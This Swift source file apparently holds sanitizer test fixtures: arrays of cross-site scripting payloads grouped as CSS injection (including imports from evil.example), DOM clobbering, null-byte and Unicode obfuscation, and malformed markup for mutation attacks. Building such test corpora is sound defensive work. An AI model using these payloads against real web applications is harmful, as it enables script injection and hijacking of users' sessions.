/// Attacks by style, by name, by bytes and by shape.
extension AttackVectors {
    static let styles = [
        "<style>@import '//evil.example/x.css';</style>",
        "<style>body{background:url(javascript:run())}</style>",
        "<p style='background:url(javascript:run())'>x</p>", "<p style='width:expression(run())'>x</p>",
        "<p style='w\\69 dth:e/**/xpression(run())'>x</p>",
        "<p style=\"-moz-binding:url('//evil.example/x.xml#a')\">x</p>",
        "<p style='behavior:url(#default#time2)'>x</p>", "<p style=\"x:'&quot;};run()\">x</p>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<p style='background:\\75rl(//evil.example)'>x</p>",
        "<p style=\"font-family:'</style><img src=x onerror=run()>'\">x</p>",
        "<xss style='x:expression(run())'>x</xss>",
        "<font color='x;background:url(javascript:run())'>x</font>",
        "<style/><!--</style><img src=x onerror=run()>-->",
        "<link rel='stylesheet' href='javascript:run()'>", "<p class='modal fixed' hidden>x</p>",
        "<style type=text/javascript>run()</style>",
    ]

    /// Names that hide the properties of a document.
    static let clobbering = [
        "<img name=cookie>", "<form name=document><input name=getElementById></form>",
        "<a id=location href='cid:x'>x</a>",
        "<p id=__proto__>x</p>", "<img id=attributes>", "<form id=x><input name=attributes></form>",
        "<a id=x><a id=x name=y href='clobber:z'>",
        "<iframe name=alert srcdoc='x'></iframe>", "<p is=x-evil>x</p>",
        "<p slot=x part=y itemprop=z role=alert tabindex=1 accesskey=x>x</p>",
        "<p contenteditable autofocus onfocus=run()>x</p>",
    ]

    /// Bytes that one reader drops and another does not.
    static let bytes = [
        "\u{0}<\u{0}script\u{0}>run()</script>", "<scr\u{0}ipt>run()</script>", "<script\u{0}>run()</script>",
        "<img src=x o\u{0}nerror=run()>",
        "<\u{FEFF}script>run()</script>", "<script\u{A0}>run()</script>", "\u{FEFF}<script>run()</script>",
        "<img src=x\u{A0}onerror=run()>",
        "+ADw-script+AD4-run()+ADw-/script+AD4-", "¼script¾run()¼/script¾", "\u{1B}(J<script>run()</script>",
        "<a href=\u{8}javascript:run()>x</a>",
        "<a href=javascript\u{0}:run()>x</a>", "<a href='\u{0}javascript:run()'>x</a>",
        "<p\u{85}onclick=run()>x</p>", "<p\u{2029}onclick=run()>x</p>",
        "<script>run()</script\u{0}>x", "a\u{1}b\u{7F}c\u{0B}d", "<p title='a\u{1}b\u{0}c\u{7F}'>x</p>",
        "&#0;&#1;&#x7F;&#xFFFE;&#xD800;&#x110000;&#99999999999;x",
        "<İmg src=x onerror=run()>", "<ſcript>run()</ſcript>", "<ımg src=x onerror=run()>",
    ]

    /// Shapes that change when they are read again.
    static let shapes = [
        "<table><td><a href=x><table><td>y<a href=z>w", "<a><table><a>x</a></table></a>",
        "<p><table><p>x</table></p>",
        "<ul><li><div><li>x</ul>", "<tr><td>x</td></tr>", "</td></tr></table><b>x", "<li>a<li>b",
        "</div></div><p>x</p>", "</body></html><b>x</b>",
        "<b><p>x</b>y</p>", "<a href=1>x<a href=2>y", "<a href=1><div><a href=2>y</a></div></a>",
        "<button><a href=x><button>y</button></a>",
        "<form><form><b>x</form>y</form>", "<dl><dd><dt>x<dl><li>y</dl>",
        "<select><option><b>x<option>y</select>z", "<optgroup><option>x",
        "<nobr><nobr>x", "<h1><h2>x</h1>y", "<center><p><center>x", "<span><div><span></div>x</span>",
        "<ruby>a<rt>b<rp>c</ruby>",
        "<p><source><div>x</p>y", "<video><p><source src=x></video>", "<wbr><wbr/><WBR >x</wbr>",
        "<p>a<wbr class=x>b</p>", "<col><colgroup><col>",
        "<details><summary>x<summary>y</details>", "<caption>x</caption>",
        "<table><caption><table><caption>x", "<pre><ul>x</pre>y", "<ol><ul><ol>x",
        "<th><thead><tr><td>x</thead>", "<p><x><p>y</x>z", "<ul><x><ol>y", "<i><x><center>y</x>z</i>",
        "<dir><x><dl><x><li>y", "<br></br>x</br>y", "</p>x</p>",
        "<hr></hr>x", "<img></img>x", "<p/><b/>x", "<fragment></fragment>x<b>y</b>", "<head><b>x</b></head>y",
        "<frameset><b>x",
        "<audio><source src=x><track src=y>z</audio>",
        "<area href=javascript:run()><map name=x><area href=javascript:run()></map>",
        "<basefont face=x><b>y", "<param name=x><b>y", "<isindex><b>y", "<input value='<script>'><b>y",
        "<keygen><b>y", "<menuitem onclick=run()>x",
    ]
}
